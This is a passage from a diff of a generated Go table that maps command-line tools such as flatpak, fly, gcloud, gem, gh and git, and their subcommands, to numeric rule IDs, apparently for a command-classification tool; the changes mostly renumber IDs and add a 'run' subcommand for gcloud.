[]uint32{0x1f001d}}, {"pin", []uint32{0x1f001d}}, {"ps", []uint32{0x1f001d}}, {"remote-add", []uint32{0x1f001e}}, {"remote-delete", []uint32{0x1f001e}}, {"remote-info", []uint32{0x1f001d}}, {"remote-ls", []uint32{0x1f001e}}, {"remote-modify", []uint32{0x1f001e}}, {"remotes", []uint32{0x1f001d}}, {"repair", []uint32{0x1f001e}}, {"repo", []uint32{0x1f001e}}, {"run", []uint32{0x1f001e}}, {"search", []uint32{0x1f001d}}, {"spawn", []uint32{0x1f001e}}, {"uninstall", []uint32{0x1f001e}}, {"update", []uint32{0x1f001e}}, {"upgrade", []uint32{0x1f001e}}}, ruleKnown: true},
+	{name: "flatpak", grammar: []uint32{0x1f001d}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f001d}, subs: []genSub{{"build", []uint32{0x1f001f}}, {"build-bundle", []uint32{0x1f001f}}, {"build-commit-from", []uint32{0x1f001f}}, {"build-export", []uint32{0x1f001f}}, {"build-finish", []uint32{0x1f001f}}, {"build-import-bundle", []uint32{0x1f001f}}, {"build-init", []uint32{0x1f001f}}, {"build-sign", []uint32{0x1f001f}}, {"build-update-repo", []uint32{0x1f001f}}, {"config", []uint32{0x1f001e}}, {"create-usb", []uint32{0x1f001f}}, {"document-export", []uint32{0x1f001f}}, {"document-unexport", []uint32{0x1f001f}}, {"documents", []uint32{0x1f001e}}, {"enter", []uint32{0x1f001f}}, {"history", []uint32{0x1f001e}}, {"info", []uint32{0x1f001e}}, {"install", []uint32{0x1f001f}}, {"kill", []uint32{0x1f001f}}, {"list", []uint32{0x1f001e}}, {"make-current", []uint32{0x1f001f}}, {"mask", []uint32{0x1f001e}}, {"override", []uint32{0x1f001f}}, {"permission-remove", []uint32{0x1f001f}}, {"permission-reset", []uint32{0x1f001f}}, {"permission-set", []uint32{0x1f001f}}, {"permission-show", []uint32{0x1f001e}}, {"permissions", []uint32{0x1f001e}}, {"pin", []uint32{0x1f001e}}, {"ps", []uint32{0x1f001e}}, {"remote-add", []uint32{0x1f001f}}, {"remote-delete", []uint32{0x1f001f}}, {"remote-info", []uint32{0x1f001e}}, {"remote-ls", []uint32{0x1f001f}}, {"remote-modify", []uint32{0x1f001f}}, {"remotes", []uint32{0x1f001e}}, {"repair", []uint32{0x1f001f}}, {"repo", []uint32{0x1f001f}}, {"run", []uint32{0x1f001f}}, {"search", []uint32{0x1f001e}}, {"spawn", []uint32{0x1f001f}}, {"uninstall", []uint32{0x1f001f}}, {"update", []uint32{0x1f001f}}, {"upgrade", []uint32{0x1f001f}}}, ruleKnown: true},
 	{name: "flit", grammar: nil, generic: []uint32{0xa0005}, subs: nil, ruleKnown: true},
 	{name: "flock", grammar: []uint32{0x1c007c}, generic: []uint32{0x1c007c}, subs: nil, ruleKnown: false},
-	{name: "fly", grammar: []uint32{0x13005f}, generic: []uint32{0x10012, 0x13005f}, subs: []genSub{{"apps", []uint32{0x130062}}, {"auth", []uint32{0x130060, 0x130062}}, {"certs", []uint32{0x130062}}, {"checks", []uint32{0x130061}}, {"console", []uint32{0x130064}}, {"dashboard", []uint32{0x130061}}, {"deploy", []uint32{0x130064}}, {"doctor", []uint32{0x130061}}, {"info", []uint32{0x130061}}, {"ips", []uint32{0x130061, 0x130062}}, {"launch", []uint32{0x130064}}, {"logs", []uint32{0x130061}}, {"m", []uint32{0x130062}}, {"machine", []uint32{0x130062}}, {"machines", []uint32{0x130062}}, {"mpg", []uint32{0x130064}}, {"orgs", []uint32{0x130062}}, {"pg", []uint32{0x130062}}, {"postgres", []uint32{0x130062}}, {"proxy", []uint32{0x130064}}, {"regions", []uint32{0x130061}}, {"releases", []uint32{0x130061}}, {"scale", []uint32{0x130062}}, {"secrets", []uint32{0x130062}}, {"services", []uint32{0x130061}}, {"sftp", []uint32{0x130064}}, {"ssh", []uint32{0x130064}}, {"status", []uint32{0x130061}}, {"tokens", []uint32{0x130060, 0x130062}}, {"version", []uint32{0x130063}}, {"vol", []uint32{0x130062}}, {"volume", []uint32{0x130062}}, {"volumes", []uint32{0x130062}}}, ruleKnown: true},
+	{name: "fly", grammar: []uint32{0x130064}, generic: []uint32{0x10012, 0x130064}, subs: []genSub{{"apps", []uint32{0x130067}}, {"auth", []uint32{0x130065, 0x130067}}, {"certs", []uint32{0x130067}}, {"checks", []uint32{0x130066}}, {"console", []uint32{0x130069}}, {"dashboard", []uint32{0x130066}}, {"deploy", []uint32{0x130069}}, {"doctor", []uint32{0x130066}}, {"info", []uint32{0x130066}}, {"ips", []uint32{0x130066, 0x130067}}, {"launch", []uint32{0x130069}}, {"logs", []uint32{0x130066}}, {"m", []uint32{0x130067}}, {"machine", []uint32{0x130067}}, {"machines", []uint32{0x130067}}, {"mpg", []uint32{0x130069}}, {"orgs", []uint32{0x130067}}, {"pg", []uint32{0x130067}}, {"postgres", []uint32{0x130067}}, {"proxy", []uint32{0x130069}}, {"regions", []uint32{0x130066}}, {"releases", []uint32{0x130066}}, {"scale", []uint32{0x130067}}, {"secrets", []uint32{0x130067}}, {"services", []uint32{0x130066}}, {"sftp", []uint32{0x130069}}, {"ssh", []uint32{0x130069}}, {"status", []uint32{0x130066}}, {"tokens", []uint32{0x130065, 0x130067}}, {"version", []uint32{0x130068}}, {"vol", []uint32{0x130067}}, {"volume", []uint32{0x130067}}, {"volumes", []uint32{0x130067}}}, ruleKnown: true},
 	{name: "flyctl", grammar: nil, generic: []uint32{0x10012}, subs: nil, ruleKnown: true},
 	{name: "flyway", grammar: nil, generic: []uint32{0x3001e}, subs: nil, ruleKnown: true},
 	{name: "fmt", grammar: []uint32{0x15001a}, generic: []uint32{0xd0016, 0xd002b, 0x15001a}, subs: nil, ruleKnown: true},
@@ -2237,11 +2248,11 @@ var generatedExeIndex = []genExe{
 	{name: "g++", grammar: []uint32{0x240006, 0x240044}, generic: []uint32{0xd0023, 0x240044}, subs: nil, ruleKnown: true},
 	{name: "gawk", grammar: []uint32{0x230005}, generic: []uint32{0xb001b, 0x230005}, subs: nil, ruleKnown: true},
 	{name: "gcc", grammar: []uint32{0x240005, 0x240044}, generic: []uint32{0xd0023, 0x240044}, subs: nil, ruleKnown: true},
-	{name: "gcloud", grammar: []uint32{0x10001, 0x130029, 0x130032, 0x130033, 0x130034}, generic: []uint32{0x1000c, 0x10016, 0x1001b, 0x130029, 0x130032, 0x130033, 0x130034}, subs: []genSub{{"alpha", []uint32{0x130039}}, {"auth", []uint32{0x13002a, 0x13002b, 0x13002e, 0x13003a}}, {"beta", []uint32{0x130039}}, {"builds", []uint32{0x130031}}, {"cloud-shell", []uint32{0x130039}}, {"components", []uint32{0x130031}}, {"compute", []uint32{0x130039}}, {"config", []uint32{0x13002c, 0x13002e, 0x130030}}, {"container", []uint32{0x130035}}, {"folders", []uint32{0x130031}}, {"functions", []uint32{0x130031}}, {"iam", []uint32{0x130036}}, {"info", []uint32{0x13002f}}, {"organizations", []uint32{0x130031}}, {"projects", []uint32{0x130031}}, {"scheduler", []uint32{0x130031}}, {"secrets", []uint32{0xf0007, 0x13002d, 0x130031}}, {"services", []uint32{0x130031}}, {"storage", []uint32{0x130037, 0x130038}}, {"topic", []uint32{0x130031}}, {"version", []uint32{0x13002f}}}, ruleKnown: true},
+	{name: "gcloud", grammar: []uint32{0x10001, 0x13002c, 0x130037, 0x130038, 0x130039}, generic: []uint32{0x1000c, 0x10016, 0x1001b, 0x13002c, 0x130037, 0x130038, 0x130039}, subs: []genSub{{"alpha", []uint32{0x13003e}}, {"auth", []uint32{0x13002d, 0x13002e, 0x130031, 0x13003f}}, {"beta", []uint32{0x13003e}}, {"builds", []uint32{0x130034}}, {"cloud-shell", []uint32{0x13003e}}, {"components", []uint32{0x130034}}, {"compute", []uint32{0x13003e}}, {"config", []uint32{0x13002f, 0x130031, 0x130033}}, {"container", []uint32{0x13003a}}, {"folders", []uint32{0x130034}}, {"functions", []uint32{0x130035}}, {"iam", []uint32{0x13003b}}, {"info", []uint32{0x130032}}, {"organizations", []uint32{0x130034}}, {"projects", []uint32{0x130034}}, {"run", []uint32{0x130036}}, {"scheduler", []uint32{0x130034}}, {"secrets", []uint32{0xf0007, 0x130030, 0x130034}}, {"services", []uint32{0x130034}}, {"storage", []uint32{0x13003c, 0x13003d}}, {"topic", []uint32{0x130034}}, {"version", []uint32{0x130032}}}, ruleKnown: true},
 	{name: "gcore", grammar: []uint32{0x1c007f}, generic: []uint32{0x1c007f}, subs: nil, ruleKnown: false},
 	{name: "gdb", grammar: []uint32{0x1c000f, 0x1c0080}, generic: []uint32{0x1c0080}, subs: nil, ruleKnown: false},
 	{name: "gdisk", grammar: nil, generic: []uint32{0x10000f}, subs: nil, ruleKnown: true},
-	{name: "gem", grammar: []uint32{0x1f004a}, generic: []uint32{0xa0005, 0xa000c, 0xa001b, 0x1f004a}, subs: []genSub{{"build", []uint32{0x1f004c}}, {"cert", []uint32{0x1f004c}}, {"check", []uint32{0x1f004b}}, {"cleanup", []uint32{0x1f004c}}, {"contents", []uint32{0x1f004b}}, {"dep", []uint32{0x1f004b}}, {"dependency", []uint32{0x1f004b}}, {"env", []uint32{0x1f004b}}, {"environment", []uint32{0x1f004b}}, {"exec", []uint32{0x1f004c}}, {"fetch", []uint32{0x1f004c}}, {"generate_index", []uint32{0x1f004c}}, {"help", []uint32{0x1f004b}}, {"i", []uint32{0x1f004c}}, {"info", []uint32{0x1f004b}}, {"install", []uint32{0x1f004c}}, {"list", []uint32{0x1f004b}}, {"lock", []uint32{0x1f004c}}, {"mirror", []uint32{0x1f004c}}, {"open", []uint32{0x1f004c}}, {"outdated", []uint32{0x1f004c}}, {"owner", []uint32{0x1f004c}}, {"pristine", []uint32{0x1f004c}}, {"push", []uint32{0x1f004c}}, {"query", []uint32{0x1f004b}}, {"rdoc", []uint32{0x1f004c}}, {"rebuild", []uint32{0x1f004c}}, {"search", []uint32{0x1f004c}}, {"server", []uint32{0x1f004c}}, {"setup", []uint32{0x1f004c}}, {"signin", []uint32{0x1f004c}}, {"signout", []uint32{0x1f004c}}, {"sources", []uint32{0x1f004b}}, {"spec", []uint32{0x1f004b}}, {"specification", []uint32{0x1f004b}}, {"stale", []uint32{0x1f004b}}, {"uninstall", []uint32{0x1f004c}}, {"unpack", []uint32{0x1f004c}}, {"update", []uint32{0x1f004c}}, {"which", []uint32{0x1f004b}}, {"yank", []uint32{0x1f004c}}}, ruleKnown: true},
+	{name: "gem", grammar: []uint32{0x1f004c}, generic: []uint32{0xa0005, 0xa000c, 0xa001b, 0x1f004c}, subs: []genSub{{"build", []uint32{0x1f004e}}, {"cert", []uint32{0x1f004e}}, {"check", []uint32{0x1f004d}}, {"cleanup", []uint32{0x1f004e}}, {"contents", []uint32{0x1f004d}}, {"dep", []uint32{0x1f004d}}, {"dependency", []uint32{0x1f004d}}, {"env", []uint32{0x1f004d}}, {"environment", []uint32{0x1f004d}}, {"exec", []uint32{0x1f004e}}, {"fetch", []uint32{0x1f004e}}, {"generate_index", []uint32{0x1f004e}}, {"help", []uint32{0x1f004d}}, {"i", []uint32{0x1f004e}}, {"info", []uint32{0x1f004d}}, {"install", []uint32{0x1f004e}}, {"list", []uint32{0x1f004d}}, {"lock", []uint32{0x1f004e}}, {"mirror", []uint32{0x1f004e}}, {"open", []uint32{0x1f004e}}, {"outdated", []uint32{0x1f004e}}, {"owner", []uint32{0x1f004e}}, {"pristine", []uint32{0x1f004e}}, {"push", []uint32{0x1f004e}}, {"query", []uint32{0x1f004d}}, {"rdoc", []uint32{0x1f004e}}, {"rebuild", []uint32{0x1f004e}}, {"search", []uint32{0x1f004e}}, {"server", []uint32{0x1f004e}}, {"setup", []uint32{0x1f004e}}, {"signin", []uint32{0x1f004e}}, {"signout", []uint32{0x1f004e}}, {"sources", []uint32{0x1f004d}}, {"spec", []uint32{0x1f004d}}, {"specification", []uint32{0x1f004d}}, {"stale", []uint32{0x1f004d}}, {"uninstall", []uint32{0x1f004e}}, {"unpack", []uint32{0x1f004e}}, {"update", []uint32{0x1f004e}}, {"which", []uint32{0x1f004d}}, {"yank", []uint32{0x1f004e}}}, ruleKnown: true},
 	{name: "gemini", grammar: []uint32{0x2}, generic: []uint32{0xb, 0xc}, subs: nil, ruleKnown: true},
 	{name: "genie", grammar: []uint32{0x1c0081}, generic: []uint32{0x1c0081}, subs: nil, ruleKnown: false},
 	{name: "genisoimage", grammar: []uint32{0x1c0003, 0x1c0082}, generic: []uint32{0x1c0082}, subs: nil, ruleKnown: false},
@@ -2249,7 +2260,7 @@ var generatedExeIndex = []genExe{
 	{name: "getent", grammar: []uint32{0x220035}, generic: []uint32{0x220035}, subs: []genSub{{"ahosts", []uint32{0x220037}}, {"ahostsv4", []uint32{0x220037}}, {"ahostsv6", []uint32{0x220037}}, {"aliases", []uint32{0x220036}}, {"ethers", []uint32{0x220036}}, {"group", []uint32{0x220036}}, {"gshadow", []uint32{0x220038}}, {"hosts", []uint32{0x220037}}, {"initgroups", []uint32{0x220036}}, {"netgroup", []uint32{0x220036}}, {"networks", []uint32{0x220036}}, {"passwd", []uint32{0x220036}}, {"protocols", []uint32{0x220036}}, {"rpc", []uint32{0x220036}}, {"services", []uint32{0x220036}}, {"shadow", []uint32{0x220038}}}, ruleKnown: false},
 	{name: "getfattr", grammar: []uint32{0x18000f}, generic: []uint32{0x18000f}, subs: nil, ruleKnown: false},
 	{name: "getopts", grammar: []uint32{0x120012}, generic: []uint32{0xd0016, 0x120012}, subs: nil, ruleKnown: true},
-	{name: "gh", grammar: []uint32{0x50000, 0x1a0000}, generic: []uint32{0x1a0000}, subs: []genSub{{"--version", []uint32{0x50011}}, {"agent-task", []uint32{0x1a0001}}, {"alias", []uint32{0x5000f, 0x1a0001, 0x1a0002, 0x1a000c}}, {"api", []uint32{0x5000a, 0x5000f, 0x50010, 0x1a000a}}, {"attestation", []uint32{0x5000f, 0x1a0001, 0x1a0002}}, {"auth", []uint32{0x50007, 0x5000f, 0x1a0001, 0x1a0007, 0x1a0008, 0x1a0009}}, {"browse", []uint32{0x5000f, 0x1a000b}}, {"cache", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"ci", []uint32{0x50006, 0x5000f}}, {"codespace", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003, 0x1a0006}}, {"completion", []uint32{0x50011, 0x1a0001, 0x1a000c}}, {"config", []uint32{0x5000f, 0x1a0001, 0x1a0002, 0x1a000c}}, {"copilot", []uint32{0x1a0001, 0x1a000c}}, {"deploy-key", []uint32{0x50006}}, {"environment", []uint32{0x50006, 0x5000f}}, {"extension", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a000c}}, {"gist", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0005, 0x1a0006}}, {"gpg-key", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0005}}, {"help", []uint32{0x50011}}, {"issue", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0003}}, {"iteration", []uint32{0x50006}}, {"job", []uint32{0x50006, 0x5000f}}, {"label", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0003}}, {"milestone", []uint32{0x50006}}, {"mr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012}}, {"org", []uint32{0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"package", []uint32{0x50006}}, {"pipeline", []uint32{0x50006, 0x5000f}}, {"pr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0003, 0x1a0006}}, {"preview", []uint32{0x1a0001}}, {"project", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"release", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0005, 0x1a0006}}, {"repo", []uint32{0x50004, 0x50005, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0003, 0x1a0006}}, {"ruleset", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"run", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003, 0x1a0006}}, {"schedule", []uint32{0x50006}}, {"search", []uint32{0x5000f, 0x1a000d}}, {"secret", []uint32{0x50007, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"snippet", []uint32{0x50006, 0x5000f}}, {"ssh-key", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0005}}, {"status", []uint32{0x5000f, 0x50011, 0x1a0001}}, {"tag", []uint32{0x50006}}, {"variable", []uint32{0x50006, 0x50007, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}, {"version", []uint32{0x50011}}, {"workflow", []uint32{0x50009, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0003}}}, ruleKnown: true},
+	{name: "gh", grammar: []uint32{0x50000, 0x1a0000}, generic: []uint32{0x1a0000}, subs: []genSub{{"--version", []uint32{0x50011}}, {"agent-task", []uint32{0x1a0001}}, {"alias", []uint32{0x5000f, 0x1a0001, 0x1a0002, 0x1a000d}}, {"api", []uint32{0x5000a, 0x5000f, 0x50010, 0x1a000b}}, {"attestation", []uint32{0x5000f, 0x1a0001, 0x1a0002}}, {"auth", []uint32{0x50007, 0x5000f, 0x1a0001, 0x1a0008, 0x1a0009, 0x1a000a}}, {"browse", []uint32{0x5000f, 0x1a000c}}, {"cache", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"ci", []uint32{0x50006, 0x5000f}}, {"codespace", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0007}}, {"completion", []uint32{0x50011, 0x1a0001, 0x1a000d}}, {"config", []uint32{0x5000f, 0x1a0001, 0x1a0003, 0x1a000d}}, {"copilot", []uint32{0x1a0001, 0x1a000d}}, {"deploy-key", []uint32{0x50006}}, {"environment", []uint32{0x50006, 0x5000f}}, {"extension", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a000d}}, {"gist", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0005, 0x1a0006, 0x1a0007}}, {"gpg-key", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0005, 0x1a0006}}, {"help", []uint32{0x50011}}, {"issue", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004}}, {"iteration", []uint32{0x50006}}, {"job", []uint32{0x50006, 0x5000f}}, {"label", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004}}, {"milestone", []uint32{0x50006}}, {"mr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012}}, {"org", []uint32{0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"package", []uint32{0x50006}}, {"pipeline", []uint32{0x50006, 0x5000f}}, {"pr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0007}}, {"preview", []uint32{0x1a0001}}, {"project", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"release", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0005, 0x1a0006, 0x1a0007}}, {"repo", []uint32{0x50004, 0x50005, 0x5000f, 0x50012, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0007}}, {"ruleset", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"run", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004, 0x1a0007}}, {"schedule", []uint32{0x50006}}, {"search", []uint32{0x5000f, 0x1a000e}}, {"secret", []uint32{0x50007, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"snippet", []uint32{0x50006, 0x5000f}}, {"ssh-key", []uint32{0x50006, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0005, 0x1a0006}}, {"status", []uint32{0x5000f, 0x50011, 0x1a0001}}, {"tag", []uint32{0x50006}}, {"variable", []uint32{0x50006, 0x50007, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}, {"version", []uint32{0x50011}}, {"workflow", []uint32{0x50009, 0x5000f, 0x1a0001, 0x1a0002, 0x1a0004}}}, ruleKnown: true},
 	{name: "ghc", grammar: []uint32{0x240050}, generic: []uint32{0x240050}, subs: nil, ruleKnown: false},
 	{name: "ghci", grammar: []uint32{0x240050}, generic: []uint32{0x240050}, subs: nil, ruleKnown: false},
 	{name: "gimp", grammar: []uint32{0x1c0083}, generic: []uint32{0x1c0083}, subs: nil, ruleKnown: false},
@@ -2257,8 +2268,8 @@ var generatedExeIndex = []genExe{
 	{name: "gio", grammar: nil, generic: []uint32{0x40021}, subs: nil, ruleKnown: true},
 	{name: "git", grammar: []uint32{0x70000, 0x1b0000}, generic: []uint32{0x7001d, 0x7001e, 0x7001f, 0x70020, 0x70021, 0x70022, 0x1b0000}, subs: []genSub{{"add", []uint32{0x70034, 0x1b0047}}, {"am", []uint32{0x70026, 0x70034, 0x1b0050}}, {"annotate", []uint32{0x70028, 0x1b0009}}, {"apply", []uint32{0x70034, 0x1b0051}}, {"archimport", []uint32{0x1b005c}}, {"archive", []uint32{0x70034, 0x70037, 0x1b0059}}, {"bisect", []uint32{0x70034, 0x1b0041, 0x1b0042, 0x1b0043, 0x1b0044}}, {"blame", []uint32{0x70028, 0x1b0009}}, {"branch", []uint32{0x7000e, 0x7000f, 0x70010, 0x70029, 0x1b0026}}, {"bugreport", []uint32{0x70028, 0x1b005c}}, {"bundle", []uint32{0x70034, 0x1b005a, 0x1b005b}}, {"cat-file", []uint32{0x70028, 0x1b000f}}, {"check-attr", []uint32{0x70028, 0x1b0017}}, {"check-ignore", []uint32{0x70028, 0x1b0016}}, {"check-mailmap", []uint32{0x1b0018}}, {"check-ref-format", []uint32{0x70028, 0x1b0019}}, {"checkout", []uint32{0x70009, 0x7000a, 0x7000b, 0x70024, 0x70025, 0x70034, 0x1b0049}}, {"checkout-index", []uint32{0x1b005c}}, {"cherry", []uint32{0x70028, 0x1b0015}}, {"cherry-pick", []uint32{0x70026, 0x70034, 0x1b0050}}, {"citool", []uint32{0x1b005c}}, {"clean", []uint32{0x70008, 0x70035, 0x70036, 0x1b004f}}, {"clone", []uint32{0x70034, 0x70037, 0x1b0055}}, {"column", []uint32{0x1b0021}}, {"commit", []uint32{0x70034, 0x1b0048}}, {"commit-graph", []uint32{0x1b0057}}, {"commit-tree", []uint32{0x70034, 0x1b005c}}, {"config", []uint32{0x70023, 0x70033, 0x1b002d, 0x1b002e, 0x1b002f, 0x1b0030}}, {"count-objects", []uint32{0x70028, 0x1b001a}}, {"credential", []uint32{0x1b005c, 0x1b005d}}, {"credential-cache", []uint32{0x1b005c, 0x1b005d}}, {"credential-store", []uint32{0x1b005c, 0x1b005d}}, {"cvsexportcommit", []uint32{0x1b005c}}, {"cvsimport", []uint32{0x1b005c}}, {"cvsserver", []uint32{0x1b005c}}, {"daemon", []uint32{0x1b005c}}, {"describe", []uint32{0x70028, 0x1b000e}}, {"diagnose", []uint32{0x1b005c}}, {"diff", []uint32{0x70028, 0x1b0004}}, {"diff-files", []uint32{0x70028, 0x1b0005}}, {"diff-index", []uint32{0x70028, 0x1b0005}}, {"diff-tree", []uint32{0x70028, 0x1b0005}}, {"difftool", []uint32{0x70028, 0x1b005c}}, {"fast-export", []uint32{0x1b0025}}, {"fast-import", []uint32{0x1b005c}}, {"fetch", []uint32{0x70034, 0x70037, 0x1b0053}}, {"fetch-pack", []uint32{0x1b005c}}, {"filter-branch", []uint32{0x70014, 0x1b005c}}, {"filter-repo", []uint32{0x70014}}, {"fmt-merge-msg", []uint32{0x1b0021}}, {"for-each-ref", []uint32{0x70028, 0x1b0012}}, {"for-each-repo", []uint32{0x1b005c}}, {"format-patch", []uint32{0x70034, 0x1b0058}}, {"fsck", []uint32{0x70028, 0x1b001c}}, {"gc", []uint32{0x70016, 0x70034, 0x1b0057}}, {"get-tar-commit-id", []uint32{0x1b0021}}, {"gitk", []uint32{0x1b005c}}, {"grep", []uint32{0x70028, 0x1b000a}}, {"gui", []uint32{0x1b005c}}, {"hash-object", []uint32{0x70034, 0x1b0024}}, {"help", []uint32{0x70028, 0x1b0020}}, {"hook", []uint32{0x1b005c}}, {"http-backend", []uint32{0x1b005c}}, {"imap-send", []uint32{0x1b005c}}, {"index-pack", []uint32{0x1b005c}}, {"init", []uint32{0x70034, 0x1b0056}}, {"instaweb", []uint32{0x70028, 0x1b005c}}, {"interpret-trailers", []uint32{0x1b0023}}, {"lfs", []uint32{0x7001c, 0x70034, 0x1b005e, 0x1b005f, 0x1b0060, 0x1b0061}}, {"log", []uint32{0x70028, 0x1b0002}}, {"ls-files", []uint32{0x70028, 0x1b000b}}, {"ls-remote", []uint32{0x70028, 0x70037, 0x1b001d}}, {"ls-tree", []uint32{0x70028, 0x1b000c}}, {"mailinfo", []uint32{0x1b005c}}, {"mailsplit", []uint32{0x1b005c}}, {"maintenance", []uint32{0x70034, 0x1b0057}}, {"merge", []uint32{0x70026, 0x70034, 0x1b0050}}, {"merge-base", []uint32{0x70028, 0x1b0010}}, {"merge-file", []uint32{0x1b005c}}, {"merge-tree", []uint32{0x1b005c}}, {"mergetool", []uint32{0x70034, 0x1b005c}}, {"mktag", []uint32{0x70034, 0x1b005c}}, {"mktree", []uint32{0x70034, 0x1b005c}}, {"multi-pack-index", []uint32{0x1b0057}}, {"mv", []uint32{0x70034, 0x1b004e}}, {"name-rev", []uint32{0x70028, 0x1b0011}}, {"notes", []uint32{0x70032, 0x70034, 0x1b003a, 0x1b003b, 0x1b003c}}, {"p4", []uint32{0x1b005c}}, {"pack-objects", []uint32{0x1b005c}}, {"pack-refs", []uint32{0x70034, 0x1b0057}}, {"patch-id", []uint32{0x1b0021}}, {"prune", []uint32{0x70016, 0x70017, 0x1b0057}}, {"prune-packed", []uint32{0x1b0057}}, {"pull", []uint32{0x70034, 0x70037, 0x1b0052}}, {"push", []uint32{0x70001, 0x70002, 0x70003, 0x70004, 0x70005, 0x70006, 0x70034, 0x70037, 0x1b0054}}, {"quiltimport", []uint32{0x1b005c}}, {"range-diff", []uint32{0x70028, 0x1b0006}}, {"read-tree", []uint32{0x70034, 0x1b005c}}, {"rebase", []uint32{0x70026, 0x70034, 0x1b0050}}, {"receive-pack", []uint32{0x1b005c}}, {"reflog", []uint32{0x70012, 0x70030, 0x70031, 0x1b0035, 0x1b0036}}, {"remote", []uint32{0x7002b, 0x7002c, 0x70038, 0x1b0028, 0x1b0029, 0x1b002a, 0x1b002b, 0x1b002c}}, {"remote-ext", []uint32{0x1b005c}}, {"remote-fd", []uint32{0x1b005c}}, {"repack", []uint32{0x70016, 0x1b0057}}, {"replace", []uint32{0x70034, 0x1b005c}}, {"request-pull", []uint32{0x1b005c}}, {"rerere", []uint32{0x70034, 0x1b0057}}, {"reset", []uint32{0x70007, 0x70034, 0x1b004c}}, {"restore", []uint32{0x7000c, 0x7000d, 0x70025, 0x70034, 0x1b004b}}, {"rev-list", []uint32{0x70028, 0x1b0008}}, {"rev-parse", []uint32{0x70028, 0x1b000d}}, {"revert", []uint32{0x70026, 0x70034, 0x1b0050}}, {"rm", []uint32{0x7001a, 0x70034, 0x1b004d}}, {"scalar", []uint32{0x1b005c}}, {"send-email", []uint32{0x1b005c}}, {"send-pack", []uint32{0x1b005c}}, {"shell", []uint32{0x1b005c}}, {"shortlog", []uint32{0x70028, 0x1b0007}}, {"show", []uint32{0x70028, 0x1b0003}}, {"show-branch", []uint32{0x70028, 0x1b0014}}, {"show-index", []uint32{0x1b0021}}, {"show-ref", []uint32{0x70028, 0x1b0013}}, {"sparse-checkout", []uint32{0x70034, 0x1b0045, 0x1b0046}}, {"stage", []uint32{0x1b0047}}, {"stash", []uint32{0x70011, 0x7002d, 0x70034, 0x1b0031, 0x1b0032, 0x1b0033, 0x1b0034}}, {"status", []uint32{0x70028, 0x1b0001}}, {"stripspace", []uint32{0x1b0021}}, {"submodule", []uint32{0x7001b, 0x7002f, 0x70034, 0x70039, 0x1b003d, 0x1b003e, 0x1b003f, 0x1b0040}}, {"svn", []uint32{0x1b005c}}, {"switch", []uint32{0x7000b, 0x70034, 0x1b004a}}, {"symbolic-ref", []uint32{0x70034, 0x1b005c}}, {"tag", []uint32{0x70018, 0x7002a, 0x1b0027}}, {"unpack-file", []uint32{0x1b005c}}, {"unpack-objects", []uint32{0x1b005c}}, {"update-index", []uint32{0x70034, 0x1b005c}}, {"update-ref", []uint32{0x70013, 0x1b005c}}, {"upload-archive", []uint32{0x1b005c}}, {"upload-pack", []uint32{0x1b005c}}, {"var", []uint32{0x70028, 0x1b001e}}, {"verify-commit", []uint32{0x70028, 0x1b001b}}, {"verify-pack", []uint32{0x1b0022}}, {"verify-tag", []uint32{0x70028, 0x1b001b}}, {"version", []uint32{0x70028, 0x1b001f}}, {"whatchanged", []uint32{0x70028, 0x1b0002}}, {"worktree", []uint32{0x70019, 0x7002e, 0x70034, 0x1b0037, 0x1b0038, 0x1b0039}}, {"write-tree", []uint32{0x70034, 0x1b005c}}}, ruleKnown: true},
 	{name: "git-filter-repo", grammar: nil, generic: []uint32{0x70015}, subs: nil, ruleKnown: true},
